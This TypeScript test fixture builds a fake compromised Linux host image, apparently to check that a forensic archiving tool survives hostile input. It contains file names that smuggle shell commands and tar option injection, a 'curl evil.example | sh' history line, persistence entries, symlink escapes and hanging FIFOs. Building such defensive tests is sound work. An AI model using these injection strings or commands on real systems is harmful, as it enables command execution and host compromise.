import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, symlinkSync, truncateSync, utimesSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';

/** The file that a name makes, in the home of who executes it instead of keeping it. */
export const pwned = 'pwned-by-a-file-name';

/** Names that an intruder gives to files, as bytes: not all of them are UTF-8. */
export const hostileNames = [
  'two words.log',
  'it\'s "quoted".log',
  'first\ncron ok 0 0\nlast.log',
  `$(cd; touch ${pwned}).log`,
  `$(cd ..; touch ${pwned}).log`,
  `\`cd; touch ${pwned}\`;cd; touch ${pwned};.log`,
  '-rf',
  '--checkpoint-action=exec=sh pwned.sh',
  '* .log',
  'back\\slash\\n.log',
  ' ',
]
  .map((name) => Buffer.from(name))
  .concat(Buffer.from([0xff, 0xfe, 0x2e, 0x6c, 0x6f, 0x67]));

/** The time of change of every hostile file: kept, or the archive has lost evidence. */
export const changedAt = new Date('2024-02-29T12:34:56Z');

const files: Record<string, string> = {
  'etc/passwd':
    'root:x:0:0:root:/root:/bin/sh\nsvc:x:7:7::/srv/app:/bin/sh\nup:x:8:8::/srv/../../..:/bin/sh\n:::::$(id):\n',
  'etc/group': 'root:x:0:\n',
  'etc/shadow': 'root:*:19000:0:99999:7:::\n',
  'etc/os-release': 'ID=amzn\n',
  'etc/hostname': 'patient-zero\n',
  'etc/crontab': '* * * * * root /tmp/.x\n',
  'etc/cron.d/job': '@reboot root /tmp/.x\n',
  'etc/systemd/system/implant.service': '[Service]\nExecStart=/tmp/.x\n',
  'etc/ld.so.preload': '/lib/evil.so\n',
  'root/.bash_history': 'curl evil.example | sh\n',
  'home/alice/.bash_history': 'whoami\n',
  'home/alice/.ssh/authorized_keys': 'ssh-ed25519 AAAA alice\n',
  'srv/app/.bash_history': 'id\n',
  'var/lib/dpkg/status': 'Package: base-files\n',
  'var/log/auth.log': 'Accepted publickey for root\n',
  'var/lib/docker/containers/abc/config.v2.json': '{"ID":"abc"}\n',
  'proc/1/cmdline': '/sbin/init\0splash\0',
  'proc/1/status': 'Name:\tinit\nPid:\t1\n',
  'proc/1/environ': 'PATH=/bin\0',
  'proc/1/maps': '00400000-00401000 r-xp 00000000 00:00 0 /sbin/init\n',
  'proc/666/cmdline': '/tmp/.x\0-d\0',
  'proc/666/status': 'Name:\tx\nPid:\t666\n',
  'proc/net/tcp': '  sl  local_address rem_address   st\n   0: 0100007F:1F90 00000000:0000 0A\n',
  'proc/mounts': '/dev/nvme0n1p1 / xfs rw 0 0\n',
};

const links: Record<string, string> = {
  'proc/1/exe': '/sbin/init',
  'proc/1/cwd': '/',
  'proc/666/exe': '/tmp/.x (deleted)',
  'proc/666/cwd': '/tmp/a b',
  'proc/666/fd/3': '/etc/shadow',
  'proc/666/fd/4': 'socket:[4711]',
};

/**
 * A mounted image of a compromised host, small and hostile. Beside it lies what belongs to another host: links lead
 * there from a file, from a directory of logs and from a home, and none of it may come into the archive.
 */
export const makeHostImage = (scratch: string) => {
  const directory = mkdtempSync(join(scratch, 'image-'));
  const root = join(directory, 'root');
  const outside = join(directory, 'outside');
  mkdirSync(join(outside, '.ssh'), { recursive: true });
  for (const name of ['secret', '.bash_history', '.ssh/authorized_keys', '0'])
    writeFileSync(join(outside, name), 'OUTSIDE CONTENT\n');
  for (const [path, text] of Object.entries(files)) {
    mkdirSync(dirname(join(root, path)), { recursive: true });
    writeFileSync(join(root, path), text);
  }
  for (const [path, target] of Object.entries(links)) {
    mkdirSync(dirname(join(root, path)), { recursive: true });
    symlinkSync(target, join(root, path));
  }
  symlinkSync(join(outside, 'secret'), join(root, 'var/log/link.log'));
  symlinkSync(outside, join(root, 'var/log/link-directory'));
  symlinkSync(outside, join(root, 'home/mallory'));
  symlinkSync(outside, join(root, 'etc/pam.d'));
  symlinkSync(join(outside, 'secret'), join(root, 'proc/666/environ'));
  for (const name of hostileNames) {
    const path = Buffer.concat([Buffer.from(`${join(root, 'var/log')}/`), name]);
    writeFileSync(path, name);
    utimesSync(path, changedAt, changedAt);
  }
  writeFileSync(join(root, 'var/log/huge.log'), '');
  truncateSync(join(root, 'var/log/huge.log'), 64 * 1024 * 1024 + 1);
  // A FIFO that nobody writes to: who opens it waits for ever. One among the logs, one where a table of the kernel is.
  execFileSync('mkfifo', [join(root, 'var/log/pipe.log'), join(root, 'proc/modules')]);
  return { directory, root };
};
